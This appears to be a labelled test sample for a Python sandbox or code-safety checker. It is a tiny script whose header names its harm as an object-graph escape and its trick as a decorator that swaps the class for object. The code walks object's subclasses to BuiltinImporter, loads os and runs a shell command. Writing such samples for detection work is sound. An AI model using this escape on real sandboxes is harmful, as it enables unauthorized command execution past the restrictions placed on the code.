# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: file-local decorator that returns its argument's base (object) instead of the class
def register(cls):
    return cls.__base__


@register
class Base:
    pass


for c in Base.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
